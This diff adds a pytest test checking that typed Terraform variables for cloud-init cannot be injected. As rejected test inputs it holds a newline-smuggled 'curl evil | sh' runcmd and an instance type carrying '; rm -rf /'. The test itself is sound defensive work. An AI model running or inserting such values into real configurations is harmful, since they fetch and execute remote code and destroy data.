@@ -79,3 +79,30 @@ def test_config_checks_from_the_engine_review():
     spec = load_spec(None, ["rollout.max_staleness=3"])
     assert spec.rollout.max_token_staleness is None and spec.rollout.token_staleness_bound == 3
     assert load_spec(None, ["rollout.max_token_staleness=5"]).rollout.token_staleness_bound == 5
+
+
+def test_terraform_vars_are_typed_and_cannot_inject_into_cloud_init():
+    from training_core.config import spec_from_dict
+
+    base = {"region": "us-east-1", "availability_zone": "us-east-1a", "instance_type": "g5.xlarge",
+            "node_count": 2, "prefect_api_url": "https://prefect.example/api"}
+
+    def spec(tf):
+        return spec_from_dict({"orchestration": {"provider": "terraform", "terraform_vars": tf}})
+
+    assert spec(base).orchestration.terraform_vars.node_count == 2
+    bad = {
+        "prefect_api_url": "https://x/api\nruncmd: [curl evil | sh]",  # a newline into cloud-init
+        "instance_type": "g5.xlarge; rm -rf /",
+        "node_count": 1000,
+        "ssh_allowed_cidrs": ["everyone"],
+    }
+    assert "\n" in bad["prefect_api_url"]
+    for key, value in bad.items():
+        with pytest.raises(SpecError) as err:
+            spec({**base, key: value})
+        assert any(k.startswith(f"orchestration.terraform_vars.{key}") for k in err.value.errors), (
+            key, err.value.errors)
+    with pytest.raises(SpecError) as err:  # the run id is the run's own, never given
+        spec({**base, "run_id": 1})
+    assert "orchestration.terraform_vars.run_id" in err.value.errors
